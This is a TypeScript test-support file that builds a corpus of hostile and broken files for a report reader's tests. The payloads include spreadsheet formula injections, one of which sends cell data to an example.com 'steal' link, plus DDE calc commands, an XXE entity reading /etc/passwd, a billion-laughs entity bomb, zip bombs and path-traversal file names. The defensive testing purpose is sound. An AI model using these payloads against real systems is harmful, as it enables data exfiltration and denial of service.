// Test support: a folder of hostile and broken files mixed with good reports, generated on demand
// (never committed: the bombs are small on disk and hundreds of MB inflated). Used by the command
// line's test, the 汇总审核 e2e test and `npm run bench` (through scripts/hostile-corpus.mjs).
// Each file says what a correct reader does with it: `read` (a good report, whatever its name),
// `failed` (named, with a reason) or `skipped` (named, not a report).
import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { Zip, ZipDeflate, strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import seed0 from '../../report/fixtures/seed-000.json' with { type: 'json' }
import seed1 from '../../report/fixtures/seed-001.json' with { type: 'json' }
import seed2 from '../../report/fixtures/seed-002.json' with { type: 'json' }
import seed3 from '../../report/fixtures/seed-003.json' with { type: 'json' }
import seed4 from '../../report/fixtures/seed-004.json' with { type: 'json' }

type Outcome = 'read' | 'failed' | 'skipped'

export interface CorpusFile {
  /** Path under the corpus folder, '/'-separated, as the command line names it. */
  name: string
  expect: Outcome
  /** What the file is (for test messages). */
  what: string
  /** The unit a good report names. */
  agency?: string
}

/** What the corpus changes in a seed report: the unit's name and the text fields. */
type Texts = Record<string, string>
interface Seed { meta: { agency: string }; overview: Texts; problems: Texts; otherMatters: Texts }
const SEEDS: Seed[] = [seed0, seed1, seed2, seed3, seed4]

/** Payloads that Excel, WPS and LibreOffice run as formulas when a cell starts with them. */
export const FORMULAS = [
  '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const documentXml = (body: string) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}"><w:body>${body}</w:body></w:document>`

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
  + '<Default Extension="xml" ContentType="application/xml"/>'
  + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'

/** A .docx holding only the given document.xml. */
const smallDocx = (xml: string) => zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'word/document.xml': strToU8(xml) })

/**
 * A .docx whose document.xml is `head`, then `chunk` `times` times, then `tail`, deflated as it is
 * made: 180 MB of XML never sits in memory. `declared`: the size written in the zip's directory
 * instead of the true one (a zip that lies about its size).
 */
function streamedDocx(head: string, chunk: string, times: number, tail: string, declared?: number): Uint8Array {
  const parts: Uint8Array[] = []
  const zip = new Zip((err, data) => {
    if (err) throw err
    parts.push(data)
  })
  const types = new ZipDeflate('[Content_Types].xml')
  zip.add(types)
  types.push(strToU8(CONTENT_TYPES), true)
  const doc = new ZipDeflate('word/document.xml', { level: 6 })
  zip.add(doc)
  doc.push(strToU8(head))
  const block = strToU8(chunk)
  for (let i = 0; i < times; i++) doc.push(block)
  doc.push(strToU8(tail), true)
  zip.end()
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  let at = 0
  for (const p of parts) {
    out.set(p, at)
    at += p.length
  }
  if (declared !== undefined) lieAboutSize(out, 'word/document.xml', declared)
  return out
}

/** Writes `size` as the uncompressed size of `name` in the central directory (and its local header). */
function lieAboutSize(zip: Uint8Array, name: string, size: number) {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength)
  const wanted = strToU8(name)
  for (let i = 0; i + 46 < zip.length; i++) {
    if (view.getUint32(i, true) !== 0x02014b50) continue
    const nameLength = view.getUint16(i + 28, true)
    const entryName = zip.subarray(i + 46, i + 46 + nameLength)
    if (entryName.length !== wanted.length || !entryName.every((b, k) => b === wanted[k])) continue
    view.setUint32(i + 24, size, true)
    const local = view.getUint32(i + 42, true)
    view.setUint32(local + 22, size, true)
  }
}

/** An OLE compound file header: what Word 97-2003 files and encrypted .docx files start with. */
function oleFile(streamName: string): Uint8Array {
  const bytes = new Uint8Array(4096)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  // The stream name (UTF-16) further in, as a real file has it in its directory sector.
  const name = [...streamName].flatMap((ch) => [ch.charCodeAt(0), 0])
  bytes.set(name, 1024)
  return bytes
}

const withAgency = (seed: Seed, agency: string): Seed => ({ ...seed, meta: { ...seed.meta, agency } })

/** The report with a formula at the start of every text field (unit name and every narrative). */
function formulaReport(seed: Seed, formula: string): Seed {
  const f = (text: string) => `${formula}${text}`
  const map = <T extends Record<string, string>>(o: T): T => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, f(v)])) as T
  return { ...seed, meta: { ...seed.meta, agency: f(seed.meta.agency) }, overview: map(seed.overview), problems: map(seed.problems), otherMatters: map(seed.otherMatters) }
}

const json = (value: unknown) => strToU8(JSON.stringify(value))

export interface CorpusOptions {
  /** The bombs that take the readers' limits to refuse in time: 180 MB of nodes, a lying zip, 100,000 levels, a 150 MB paragraph. */
  heavy?: boolean
  /** Links, a pipe and a folder without permission: only where a folder is walked (the command line). */
  filesystem?: boolean
  /** Good Word reports, made by the app's exporter (the caller has it: src/cli cannot import src/docx). */
  goodDocx?: { name: string; bytes: Uint8Array; agency: string }[]
}

/** Writes the corpus into `dir` and says what each file is and what a reader must do with it. */
export function writeHostileCorpus(dir: string, options: CorpusOptions = {}): CorpusFile[] {
  const files: CorpusFile[] = []
  const put = (name: string, bytes: Uint8Array | string, expect: Outcome, what: string, agency?: string) => {
    const path = join(dir, ...name.split('/'))
    mkdirSync(dirname(path), { recursive: true })
    writeFileSync(path, bytes)
    files.push({ name, expect, what, ...(agency === undefined ? {} : { agency }) })
  }
  const report = (name: string, seed: Seed, what: string) => put(name, json(seed), 'read', what, seed.meta.agency)

  // Good reports, as .json and as Word files.
  SEEDS.forEach((seed, i) => report(`good/seed-00${i}.json`, seed, 'a seed report'))
  for (const docx of options.goodDocx ?? []) put(`good/${docx.name}`, docx.bytes, 'read', 'a Word report made by the app', docx.agency)
  FORMULAS.forEach((formula, i) => report(`formulas/formula-${i}.json`, formulaReport(withAgency(SEEDS[i % 5]!, `公式${i}镇人民政府`), formula), 'formulas in every text field'))

  // Good reports under hostile names.
  const named = (name: string, i: number, what: string) => report(name, withAgency(SEEDS[i % 5]!, `名称${i}镇人民政府`), what)
  named('names/a..\\..\\..\\windows\\escape.json', 0, 'a name with ..\\')
  named('names/报告..json', 1, 'a name with ..')
  // A name starting with a dot is a hidden file: named, not read.
  put('names/..\\..\\escape.json', json(seed0), 'skipped', 'a name starting with ..\\ (hidden)')
  named('names/line\nbreak.json', 2, 'a newline in the name')
  named('names/esc\u001b[2J\u001b[31mred\u001b[0m\u0007.json', 3, 'terminal escapes in the name')
  named('names/bidi\u202egnp.json', 4, 'a right-to-left override in the name')
  named('=HYPERLINK("http:\\\\example.com","点击").json', 5, 'a formula as the name')
  named("names/+cmd|' calc'!A0.json", 6, 'a formula as the name')
  named('names/-2+3.json', 7, 'a formula as the name')
  named('@SUM(A1).json', 8, 'a formula as the name')
  // Linux allows 255 bytes a name: 300 characters is a path through folders.
  named(`names/${'长'.repeat(80)}/${'路径'.repeat(40)}/${'x'.repeat(130)}.json`, 9, 'a 300-character path')

  // Word files that are not (readable) Word files.
  put('bad/old-word.docx', oleFile('WordDocument'), 'failed', 'a Word 97-2003 .doc renamed .docx')
  put('bad/encrypted.docx', oleFile('EncryptionInfo'), 'failed', 'an encrypted Word file')
  put('bad/empty.docx', new Uint8Array(0), 'failed', 'an empty file')
  put('bad/empty.json', new Uint8Array(0), 'failed', 'an empty file')
  const full = smallDocx(documentXml('<w:p><w:r><w:t>年度报告</w:t></w:r></w:p>'.repeat(200)))
  put('bad/truncated.docx', full.subarray(0, full.length >> 1), 'failed', 'a Word file cut in half')
  const seedText = JSON.stringify(seed0)
  put('bad/truncated.json', seedText.slice(0, seedText.length >> 1), 'failed', 'a report file cut in half')
  put('bad/not-a-zip.docx', 'PK\u0003\u0004 this is not a zip', 'failed', 'a damaged Word file')
  put('bad/entity-expansion.docx', smallDocx(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">${
    Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>&lol8;</w:t></w:r></w:p></w:body></w:document>`),
  'failed', 'entity expansion (billion laughs)')
  put('bad/external-entity.docx', smallDocx(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>`),
    'failed', 'an external entity')

  // Report files that are not (readable) report files.
  put('bad/proto-only.json', '{"__proto__":{"format":"gov-info-annual-report","schemaVersion":2}}', 'failed', 'only a __proto__ key')
  put('bad/nan.json', seedText.replace(/"issued":\d+/, '"issued":NaN'), 'failed', 'NaN in a cell')
  put('bad/infinity.json', seedText.replace(/"issued":\d+/, '"issued":Infinity'), 'failed', 'Infinity in a cell')
  put('bad/1e309.json', seedText.replace(/"issued":\d+/, '"issued":1e309'), 'failed', '1e309 (Infinity once parsed) in a cell')
  const invalid = strToU8(seedText)
  invalid[invalid.indexOf(0x22, 20) + 1] = 0xff
  put('bad/invalid-utf8.json', invalid, 'failed', 'invalid UTF-8')
  put('bad/deep.json', `{"format":"gov-info-annual-report","schemaVersion":2,"meta":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`, 'failed', 'JSON nested 100,000 levels')
  put('bad/array.json', '[1,2,3]', 'failed', 'a JSON array')
  // __proto__ keys beside a good report: the schema takes no key it does not know.
  put('bad/proto-keys.json', seedText.replace('{', '{"__proto__":{"polluted":true},').replace('"meta":{', '"meta":{"__proto__":{"agency":"伪造"},'), 'failed', '__proto__ keys beside the report')
  // UTF-16 with a byte order mark (Notepad's "Unicode"): the same report, read.
  const utf16 = new Uint8Array(2 + seedText.length * 2)
  utf16.set([0xff, 0xfe])
  for (let i = 0; i < seedText.length; i++) {
    utf16[2 + 2 * i] = seedText.charCodeAt(i) & 0xff
    utf16[3 + 2 * i] = seedText.charCodeAt(i) >> 8
  }
  put('good/utf16-bom.json', utf16, 'read', 'UTF-16 with a byte order mark', seed0.meta.agency)

  // Not reports at all.
  put('other/notes.txt', '不是报告', 'skipped', 'a text file')
  put('other/报告.doc', oleFile('WordDocument'), 'skipped', 'a .doc file')

  if (options.heavy) {
    put('heavy/node-bomb.docx', streamedDocx(documentXml('').replace('</w:body></w:document>', ''), '<w:p/>'.repeat(100_000), 300, '</w:body></w:document>'),
      'failed', '30 million empty paragraphs (180 MB of XML)')
    put('heavy/lying-size.docx', streamedDocx(documentXml('').replace('</w:body></w:document>', ''), '<w:p/>'.repeat(100_000), 100, '</w:body></w:document>', 4096),
      'failed', 'a zip declaring 4 kB for 60 MB of XML')
    put('heavy/deep-nesting.docx', smallDocx(documentXml(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`)), 'failed', 'a paragraph nested 100,000 levels deep')
    // A real report with one 150 MB paragraph in 一、总体情况 (a good Word report's body only: the
    // body is what is read).
    const good = options.goodDocx?.[0]
    if (good) {
      const xml = strFromU8(unzipSync(good.bytes, { filter: (f) => f.name === 'word/document.xml' })['word/document.xml']!)
      const at = xml.indexOf('</w:p>', xml.indexOf('总体情况')) + '</w:p>'.length
      put('heavy/huge-paragraph.docx', streamedDocx(`${xml.slice(0, at)}<w:p><w:r><w:t>`, '年'.repeat(1_000_000), 50, `</w:t></w:r></w:p>${xml.slice(at)}`),
        'failed', 'a report with one paragraph of 50 million characters (150 MB)')
    }
  }

  if (options.filesystem) {
    const link = (target: string, name: string, expect: Outcome, what: string) => {
      mkdirSync(dirname(join(dir, name)), { recursive: true })
      symlinkSync(target, join(dir, name.replace(/\/$/, '')))
      files.push({ name, expect, what })
    }
    link(join(dir, 'good', 'seed-000.json'), 'links/same-as-seed-000.json', 'skipped', 'a link to a file read already')
    link(dir, 'links/loop/', 'skipped', 'a link back to the top folder')
    link(join(dir, 'no-such-file.json'), 'links/dangling.json', 'failed', 'a broken link')
    link('self.json', 'links/self.json', 'failed', 'a link to itself')
    // A 4 GB file that takes no disk (sparse): refused on its size, never read into memory.
    const huge = join(dir, 'bad', 'huge-scan.pdf')
    writeFileSync(huge, '%PDF-1.7\n')
    truncateSync(huge, 4 * 1024 ** 3)
    files.push({ name: 'bad/huge-scan.pdf', expect: 'failed', what: 'a 4 GB file (refused on its size before it is read)' })
    execFileSync('mkfifo', [join(dir, 'links', 'pipe.json')])
    files.push({ name: 'links/pipe.json', expect: 'skipped', what: 'a named pipe (reading it would wait forever)' })
    // Root reads any folder: the entry is there only for other users.
    mkdirSync(join(dir, 'locked'))
    writeFileSync(join(dir, 'locked', 'inside.json'), json(seed0))
    chmodSync(join(dir, 'locked'), 0o000)
    if (process.getuid?.() !== 0) files.push({ name: 'locked/', expect: 'failed', what: 'a folder without read permission' })
    else files.push({ name: 'locked/inside.json', expect: 'read', what: 'a report in a folder without permission (root reads it)' })
  }
  return files
}
